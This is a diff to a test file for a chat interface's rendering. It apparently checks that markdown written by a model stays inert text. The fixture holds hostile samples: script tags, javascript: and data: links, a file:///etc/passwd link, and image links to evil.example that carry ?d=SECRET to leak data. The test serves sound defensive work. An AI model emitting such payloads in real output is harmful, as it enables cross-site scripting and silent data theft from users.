@@ -25,7 +25,7 @@ HOSTILE = """Hello <script>document.title = "owned"</script>
 [click](javascript:alert(1)) [data](data:text/html,<script>1</script>) [file](file:///etc/passwd)
 [odd](&#106;avascript:alert(1)) [page](/v1/models) <javascript:alert(1)> [fine](https://example.org/a?b=c)
 
-![x](https://evil.example/?d=SECRET) ![y][far] [![z](https://evil.example/z.png)](https://example.org/)
+[later][known] ![x](https://evil.example/?d=SECRET) ![y][far] [![z](https://evil.example/z.png)](https://example.org/)
 
 [far]: https://evil.example/?d=REFERENCE
 
@@ -35,6 +35,8 @@ HOSTILE = """Hello <script>document.title = "owned"</script>
 $$\\href{javascript:alert(1)}{x} \\includegraphics{https://evil.example/i.png}$$
 
 \\(\\def\\a{\\a\\a}\\a\\) \\(x^2\\)
+
+[known]: https://example.org/known
 
 | a | <img src=x> |
 |--:|---|
@@ -112,6 +114,7 @@ def test_what_a_model_wrote_stays_text(
     assert all(
         rel == "noopener noreferrer nofollow" and target == "_blank" for _, rel, target in links
     )
+    assert any(href.endswith("/known") for href, _, _ in links)
     assert page.locator("main [onclick], main [onerror], main [href^=javascript]").count() == 0
     assert page.get_by_text("Picture, not fetched").count() >= 4
     assert "(example.org)" in page.locator(".chat-text").inner_text()
